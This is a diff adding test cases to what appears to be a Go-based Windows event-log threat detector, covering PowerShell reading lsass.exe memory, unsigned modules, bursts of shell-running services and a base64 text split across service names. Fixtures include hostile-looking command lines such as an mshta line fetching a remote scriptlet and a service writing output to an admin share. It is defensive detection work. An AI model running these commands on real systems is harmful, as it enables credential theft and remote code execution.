@@ -163,6 +163,17 @@ func TestAnalyzers(t *testing.T) {
 			"T1059.001", "high", "Unmanaged PowerShell: evil.exe loaded System.Management.Automation"},
 		{"powershell loading its own engine", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: ps, data: map[string]any{"ImageLoaded": `C:\Windows\assembly\System.Management.Automation.dll`, "Signed": "true"}}},
 			"T1059.001", "", ""},
+		{"powershell opens lsass", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 10, data: map[string]any{"SourceImage": ps,
+			"TargetImage": `C:\Windows\system32\lsass.exe`, "GrantedAccess": "0x143a", "CallTrace": `C:\Windows\SYSTEM32\ntdll.dll+90eaa|UNKNOWN(000000CDD65B2A68)`}}},
+			"T1059.001", "high", "PowerShell opened the memory of lsass.exe"},
+		{"antivirus opens lsass", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 10, data: map[string]any{"SourceImage": `C:\Program Files\Windows Defender\MsMpEng.exe`,
+			"TargetImage": `C:\Windows\system32\lsass.exe`, "GrantedAccess": "0x1010"}}},
+			"T1059.001", "", ""},
+		{"unsigned module in powershell", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: ps, data: map[string]any{"ImageLoaded": `C:\Users\bob\AppData\Local\Temp\x.dll`, "Signed": "false"}}},
+			"T1059.001", "medium", "PowerShell loaded an unsigned module: x.dll"},
+		{"ngen native image is unsigned by nature", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: ps, data: map[string]any{
+			"ImageLoaded": `C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\287d\System.Management.Automation.ni.dll`, "Signed": "false"}}},
+			"T1059.001", "", ""},
 		{"cmd from word", []ev{sysmon1(cmd, `C:\Program Files\Microsoft Office\WINWORD.EXE`, `cmd /c whoami`)},
 			"T1059.003", "high", "cmd.exe started by winword.exe (Office)"},
 		{"cmd from explorer", []ev{sysmon1(cmd, expl, `cmd.exe`)}, "T1059.003", "", ""},
@@ -210,6 +221,22 @@ func TestAnalyzers(t *testing.T) {
 			"T1059.003", "", ""},
 		{"service runs cmd", []ev{{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": "x", "ImagePath": `%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output`}}},
 			"T1059.003", "high", "Service installed to run a command shell: x"},
+		{"burst of shell services is one finding", []ev{
+			{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": "c2VnMQ", "ImagePath": `cmd.exe /c powershell -command "Get-Service seg1"`}},
+			{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": "c2VnMg", "ImagePath": `cmd.exe /c powershell -command "Get-Service seg2"`}},
+			{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": "c2VnMw", "ImagePath": `cmd.exe /c powershell -command "Get-Service seg3"`}}},
+			"T1059.003", "high", "3 services installed to run a command shell within 2s, first c2VnMQ"},
+		{"payload carried in service names", func() []ev {
+			names := []string{"IyBUaGlzIHNjcmlwdCBpcyBhIHBheWxvYWQgY2Fy", "cmllZCBpbiBzZXJ2aWNlIG5hbWVzLgpJbnZva2Ut", "RXhwcmVzc2lvbiAkY29kZQo="}
+			var out []ev
+			for i, n := range names {
+				out = append(out, ev{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": n,
+					"ImagePath": fmt.Sprintf(`cmd.exe /c powershell -command "Get-Service seg%d"`, i+1)}})
+			}
+			return out
+		}(), "T1059.003", "high", "3 services installed to run a command shell within 2s, first IyBUaGlzIHNjcmlwdCBpcyBhIHBheWxvYWQgY2Fy"},
+		{"ordinary service is quiet", []ev{{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": "Acme", "ImagePath": `"C:\Program Files\Acme\agent.exe" -service`}}},
+			"T1059.003", "", ""},
 		{"wscript from downloads", []ev{sysmon1(`C:\Windows\System32\wscript.exe`, expl, `wscript.exe C:\Users\bob\Downloads\invoice.vbs`)},
 			"T1059.005", "medium", "wscript.exe ran a script from a user-writable folder"},
 		{"mshta javascript", []ev{sysmon1(`C:\Windows\System32\mshta.exe`, expl, `mshta.exe javascript:a=GetObject("script:http://x/a.sct").Exec();close()`)},
@@ -502,5 +529,26 @@ func TestPrefetchRunsJoinTheirStarts(t *testing.T) {
 	// Record ids are the events' positions above, from 1.
 	if want := []string{"1,4", "2,3"}; strings.Join(got, " ") != strings.Join(want, " ") {
 		t.Errorf("evidence record ids %v, want %v", got, want)
+	}
+}
+
+func TestJoinedBase64Text(t *testing.T) {
+	payload := []string{"IyBUaGlzIHNjcmlwdCBpcyBhIHBheWxvYWQgY2Fy", "cmllZCBpbiBzZXJ2aWNlIG5hbWVzLgpJbnZva2Ut", "RXhwcmVzc2lvbiAkY29kZQo="}
+	if text, complete, ok := joinedBase64Text(payload); !ok || !complete || !strings.HasPrefix(text, "# This script is a payload") {
+		t.Errorf("payload not decoded: %q %v %v", text, complete, ok)
+	}
+	// A piece lost from the log: the text up to it is still shown.
+	gap := []string{payload[0], payload[1], payload[2][2:]}
+	if text, complete, ok := joinedBase64Text(gap); !ok || complete || !strings.HasPrefix(text, "# This script is a payload carried in service names.") {
+		t.Errorf("partial payload: %q %v %v", text, complete, ok)
+	}
+	for _, names := range [][]string{
+		{"Spooler", "Acme"}, // too short to be a payload
+		{"PSEXESVCPSEXESVCPSEXESVCPSEXESVC", "RemComSvcRemComSvcRemComSvcRemComSvcAAAA"}, // valid base64, binary
+		{"Windows Update Medic Service", "Microsoft Defender Antivirus Network Inspection"},
+	} {
+		if text, _, ok := joinedBase64Text(names); ok {
+			t.Errorf("%v decoded to %q", names, text)
+		}
 	}
 }
